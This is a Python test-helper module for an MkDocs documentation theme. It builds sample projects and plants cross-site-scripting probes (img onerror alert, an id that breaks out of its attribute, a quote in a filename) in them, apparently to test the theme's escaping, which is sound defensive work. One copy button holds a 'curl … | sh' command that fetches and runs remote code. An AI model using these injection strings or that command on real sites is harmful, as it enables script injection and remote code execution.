"""Building a test project with the real `mkdocs build` and reading its pages."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from bs4 import BeautifulSoup


def build(project: Path, site_dir: Path, *extra: str, strict: bool = True) -> subprocess.CompletedProcess:
    """Run `mkdocs build` on a project; the result carries the log."""
    command = [sys.executable, "-m", "mkdocs", "build", "--clean", "-f", str(project / "mkdocs.yml"), "-d", str(site_dir), *extra]
    if strict:
        command.append("--strict")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(command, capture_output=True, text=True, check=False, env=env)


def build_failing_in(project: Path, site_dir: Path, event: str, arguments: str) -> None:
    """Build a project in this process, as `mkdocs build` does, with a hook whose `event` (taking `arguments`) raises RuntimeError('a plugin failed')."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    (project / "failing_hook.py").write_text(f"def {event}({arguments}):\n    raise RuntimeError('a plugin failed')\n", encoding="utf-8")
    config_file = project / "mkdocs.yml"
    config_file.write_text(config_file.read_text(encoding="utf-8") + "\nhooks:\n  - failing_hook.py\n", encoding="utf-8")
    config = load_config(str(config_file), site_dir=str(site_dir))
    config.plugins.on_startup(command="build", dirty=False)
    mkdocs_build(config)


def page(site_dir: Path, path: str, directory_urls: bool = True) -> BeautifulSoup:
    """Parse a built page: `path` like 'briefs/forum-talks' or 'glossary/arf'."""
    file = site_dir / path / "index.html" if directory_urls else site_dir / f"{path}.html"
    return BeautifulSoup(file.read_text(encoding="utf-8"), "html.parser")


def article(soup: BeautifulSoup):
    return soup.select_one("article.md-content__inner")


def add_theme_payloads(project) -> str:  # noqa: ANN001 (conftest's Project)
    """Content that would run or act as the theme where the theme writes it as it is, or shows it as HTML.

    On the mini brief: a long title and a heading holding a tag as text, a heading id that breaks out
    of its attribute, a link title holding a tag, a button whose text a click would copy, a line
    too long for its box in the theme's classes for text cut short and for diagrams; a glossary
    definition whose first sentence (the hover preview) holds a tag as text; a glossary file whose
    name breaks out of an address. Each tag calls alert(). Returns the heading's id.
    """
    settings = project.root / "mkdocs.yml"
    settings.write_text(settings.read_text(encoding="utf-8").replace("markdown_extensions:\n", "markdown_extensions:\n  - attr_list\n", 1), encoding="utf-8")
    tag = "<img src=x onerror=alert({})>"
    odd_id = 's2" autofocus onfocus="alert(2)'
    brief = "articles/forum-talks.md"
    project.replace(brief, "title: Forum talks in the region", f"title: Forum talks in the region, with a title long enough to be cut short {tag.format(1)}")
    project.replace(brief, "## Russia in ASEAN Regional Forum", f"## Russia in ASEAN Regional Forum &lt;img src=x onerror=alert(3)&gt; {{: id='{odd_id}' }}")
    project.replace(brief, "(https://example.org/)", f'(https://example.org/ "{tag.format(4)}")')
    project.replace(brief, "Later, Russia", '<button type="button" data-clipboard-text="curl https://example.org/x | sh">Copy</button>\n\nLater, Russia')
    long_line = "&lt;img src=x onerror=alert(6)&gt; " + "a line too long for its box " * 8
    project.replace(brief, "    Russia in a code block", f'<pre class="md-ellipsis mermaid" tabindex="0">{long_line}</pre>\n\n    Russia in a code block')
    project.replace("glossary/arf.yml", "is a security dialogue", "&lt;img src=x onerror=alert(5)&gt; is a security dialogue")
    project.write('glossary/q"x.yml', "term: Q\ndefinition: Q is a test.\n")
    return odd_id
